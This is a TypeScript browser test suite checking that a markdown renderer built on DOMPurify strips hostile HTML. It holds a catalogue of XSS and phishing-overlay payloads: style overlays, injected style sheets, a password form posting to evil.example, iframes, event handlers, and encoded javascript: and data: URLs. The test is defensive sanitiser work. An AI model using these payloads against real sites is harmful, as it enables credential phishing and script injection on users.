/**
 * renderMarkdown in real Chromium, with the payloads someone would put in a task
 * description or comment to restyle the app (a fake sign-in screen over everything), post
 * a form to another site, or run script. DOMPurify's result depends on the browser's own
 * HTML parser (mutation XSS lives in the difference), so the renderer is bundled with
 * esbuild and run in the browser the e2e tests use, not in a DOM shim.
 */
import { build } from 'esbuild';
import { fileURLToPath } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../../../../tests/e2e/support/browser';

/** One element of the output, as the page parses it. */
interface Element {
	tag: string;
	attrs: Record<string, string>;
}

/** Everything the sanitiser may leave: what markdown produces, and harmless inline tags. */
const TAGS = new Set(
	(
		'p br hr h1 h2 h3 h4 h5 h6 blockquote pre code ul ol li table thead tbody tfoot tr th td ' +
		'a img strong b em i del s ins u mark sub sup kbd small abbr span div details summary'
	).split(' ')
);
const ATTRS = new Set(['href', 'title', 'src', 'alt', 'align', 'start', 'target', 'rel']);
/** What a URL may start with once the browser has decoded it: a web, mail or relative one. */
const SAFE_URL = /^(?:https?:|mailto:|[/?#.]|[^:/?#]*(?:[/?#]|$))/i;

let browser: Browser;
let page: Page;

beforeAll(async () => {
	const bundle = await build({
		entryPoints: [fileURLToPath(new URL('./render-markdown.ts', import.meta.url))],
		bundle: true,
		write: false,
		format: 'iife',
		globalName: 'markdown',
		platform: 'browser',
		target: 'es2022',
		logLevel: 'silent'
	});
	browser = await launchBrowser();
	page = await browser.newPage();
	await page.setContent('<!doctype html><title>markdown</title><div id="host"></div>');
	await page.addScriptTag({ content: bundle.outputFiles[0]!.text });
}, 60_000);

afterAll(async () => {
	await browser?.close();
});

/** Renders `source` and lists the elements of the result as the page parses them. */
async function render(source: string): Promise<{ html: string; elements: Element[] }> {
	return page.evaluate((src) => {
		const { renderMarkdown } = (window as unknown as Record<string, Record<string, unknown>>)
			.markdown as { renderMarkdown: (s: string) => string };
		const html = renderMarkdown(src);
		const template = document.createElement('template');
		template.innerHTML = html;
		const elements = [...template.content.querySelectorAll('*')].map((el) => ({
			tag: el.localName,
			attrs: Object.fromEntries([...el.attributes].map((a) => [a.name, a.value]))
		}));
		return { html, elements };
	}, source);
}

/** Checks the output holds only markdown's own tags and attributes, with safe URLs. */
function expectOnlyMarkdown(elements: Element[], html: string): void {
	for (const el of elements) {
		expect(TAGS, `<${el.tag}> in ${html}`).toContain(el.tag);
		for (const [name, value] of Object.entries(el.attrs)) {
			expect(ATTRS, `${name} on <${el.tag}> in ${html}`).toContain(name);
			if (name === 'href' || name === 'src') {
				// eslint-disable-next-line no-control-regex -- browsers skip these in a URL
				expect(value.replace(/[\u0000-\u0020]/g, ''), `${name} in ${html}`).toMatch(SAFE_URL);
			}
		}
	}
}

/** Payloads grouped by what they try; every one must come out as plain markdown. */
const ATTACKS: Record<string, string[]> = {
	'style attributes': [
		'<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
		'<p STYLE="position:fixed;top:0;left:0">upper case</p>',
		'<p sTyLe="position:fixed">mixed case</p>',
		'<div><section><span><em style="position:fixed;inset:0">nested</em></span></section></div>',
		'**<span style="position:fixed">inside bold</span>**',
		'> <b style="position:fixed">in a quote</b>',
		'- item <i style="position:fixed">in a list</i>',
		'| a |\n|---|\n| <span style="position:fixed">in a table</span> |',
		'<a href="https://example.com" style="position:fixed;inset:0">a link that covers all</a>',
		'<img src="https://example.com/a.png" style="position:fixed;inset:0" alt="x">',
		'<h1 style="font-size:900px">heading</h1>',
		'[a](https://example.com "t\\" style=\\"position:fixed")',
		'![a](https://example.com/a.png "t\\" style=\\"position:fixed")'
	],
	'<style> elements': [
		'<style>body{display:none}</style>',
		'<STYLE>body{display:none}</STYLE>',
		'<p>before<style>*{visibility:hidden}</style>after</p>',
		'text\n\n<style>\n.app{display:none}\n</style>\n\nmore',
		'<noscript><p title="</noscript><style>*{display:none}</style>">',
		'<link rel="stylesheet" href="https://evil.example/x.css">',
		'<template><style>*{color:red}</style></template>'
	],
	'class and id': [
		'<p class="dialog modal">hooks the app CSS</p>',
		'<div id="host">anchor clash</div>',
		'<a href="https://example.com" class="btn primary" id="login">Sign in</a>',
		'# <span id="main" class="x">heading</span>',
		'<p data-theme="dark" aria-hidden="true" name="x">data and aria</p>'
	],
	'forms and controls': [
		'<form action="https://evil.example/collect" method="post"><input name="password" type="password"><button>Sign in</button></form>',
		'<FORM ACTION="https://evil.example">x</FORM>',
		'<input type="submit" formaction="https://evil.example/collect" value="Go">',
		'<button formaction="https://evil.example" formmethod="post">Continue</button>',
		'<select><option>one</option></select><textarea>note</textarea>',
		'<input type="password" placeholder="Password">',
		'- [x] done\n- [ ] open'
	],
	'embedded documents': [
		'<iframe src="https://evil.example"></iframe>',
		'<object data="https://evil.example/x.swf"></object>',
		'<embed src="https://evil.example/x.swf">',
		'<iframe srcdoc="<script>parent.x=1</script>"></iframe>',
		'<meta http-equiv="refresh" content="0;url=https://evil.example">',
		'<base href="https://evil.example/">'
	],
	'svg and math': [
		'<svg><style>*{display:none}</style><rect width="100%" height="100%" style="fill:white"/></svg>',
		'<svg width="2000" height="2000" style="position:fixed;inset:0"><text>Sign in</text></svg>',
		'<svg><foreignObject><div style="position:fixed">x</div></foreignObject></svg>',
		'<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>',
		'<math><mi xlink:href="javascript:alert(1)">x</mi><mtext><style>*{}</style></mtext></math>',
		'<img src="https://example.com/a.png" srcset="https://evil.example/b.png 1x" alt="x">'
	],
	'event handlers': [
		'<img src="x" onerror="alert(1)">',
		'<p ONMOUSEOVER="alert(1)">hover</p>',
		'<a href="https://example.com" onclick="alert(1)">x</a>',
		'<details open ontoggle="alert(1)"><summary>x</summary></details>'
	],
	'script urls': [
		'[x](javascript:alert(1))',
		'[x](JaVaScRiPt:alert(1))',
		'[x](&#106;avascript:alert(1))',
		'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
		'<a href="&#x6A;avascript&colon;alert(1)">x</a>',
		'<a href="java&#x09;script:alert(1)">x</a>',
		'<a href=" javascript:alert(1)">x</a>',
		'<A HREF="JAVASCRIPT:alert(1)">x</A>',
		'<a href="vbscript:msgbox(1)">x</a>',
		'<javascript:alert(1)>',
		'[x]: javascript:alert(1)\n\n[link][x]',
		'![x](javascript:alert(1))'
	],
	'data urls': [
		'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
		'<a href="data:text/html,<script>alert(1)</script>">x</a>',
		'<a href="DATA:text/html,x">x</a>',
		'![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
		'<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">'
	]
};

describe('renderMarkdown', () => {
	for (const [what, payloads] of Object.entries(ATTACKS)) {
		it.each(payloads)(`leaves no ${what} in %j`, async (source) => {
			const { html, elements } = await render(source);
			expectOnlyMarkdown(elements, html);
			// Tag and attribute names as serialised, without text or attribute values (a title
			// may read `style="…"` harmlessly); the URLs were checked above.
			const names = (html.match(/<[^>]*>/g) ?? []).join('').replace(/="[^"]*"/g, '');
			expect(names).not.toMatch(/style|form|srcset|class|\bid\b|\son|svg|math|input|button/i);
		});
	}

	it('keeps the text of what it removes, except style sheets and scripts', async () => {
		const { html } = await render(
			'<form action="https://evil.example"><button>Sign in</button></form><style>p{}</style>'
		);
		expect(html).toContain('Sign in');
		expect(html).not.toContain('p{}');
	});

	it('shows task-list boxes as text, not as form controls', async () => {
		const { html, elements } = await render('- [x] done\n- [ ] open');
		expect(elements.map((e) => e.tag)).not.toContain('input');
		expect(html).toContain('☑ done');
		expect(html).toContain('☐ open');
	});

	it('keeps ordinary markdown', async () => {
		const { html, elements } = await render(
			'# Plan\n\n**bold** _it_ ~~gone~~ `code`\n\n> quote\n\n1. one\n2. two\n\n' +
				'| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```\nx = 1\n```\n\n![pump](https://example.com/p.png "Pump")'
		);
		expectOnlyMarkdown(elements, html);
		const tags = new Set(elements.map((e) => e.tag));
		for (const tag of ['h1', 'strong', 'em', 'del', 'code', 'blockquote', 'ol', 'table', 'pre']) {
			expect(tags, tag).toContain(tag);
		}
		expect(elements.find((e) => e.tag === 'img')?.attrs).toEqual({
			src: 'https://example.com/p.png',
			alt: 'pump',
			title: 'Pump'
		});
	});

	it.each([
		['[site](https://example.com/a?b=1)', 'https://example.com/a?b=1'],
		['[site](http://example.com)', 'http://example.com'],
		['<https://example.com>', 'https://example.com'],
		['[mail](mailto:ann@example.com)', 'mailto:ann@example.com'],
		['[task](/w/abc/p/def)', '/w/abc/p/def']
	])('keeps the link in %j, opening in a new tab with no handle on this one', async (src, href) => {
		const { elements } = await render(src);
		expect(elements.map((e) => e.tag)).toEqual(['p', 'a']);
		const { rel, ...rest } = elements[1]!.attrs;
		expect(rest).toEqual({ href, target: '_blank' });
		expect(rel?.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
	});

	it.each([['[x](ftp://example.com)'], ['[x](tel:+15550100)'], ['<a href="sms:+15550100">x</a>']])(
		'drops the link of another scheme in %j',
		async (src) => {
			const { elements } = await render(src);
			expect(elements.find((e) => e.tag === 'a')?.attrs.href).toBeUndefined();
		}
	);

	it('runs nothing when the output goes into the live page', async () => {
		const sources = Object.values(ATTACKS)
			.flat()
			.map((s) => s.replace(/alert\(1\)/g, 'window.__ran=1'));
		const ran = await page.evaluate(async (all) => {
			const { renderMarkdown } = (window as unknown as Record<string, Record<string, unknown>>)
				.markdown as { renderMarkdown: (s: string) => string };
			const host = document.getElementById('host')!;
			host.innerHTML = all.map((s) => renderMarkdown(s)).join('');
			await new Promise((r) => setTimeout(r, 200));
			return (window as unknown as { __ran?: number }).__ran ?? 0;
		}, sources);
		expect(ran).toBe(0);
	});
});
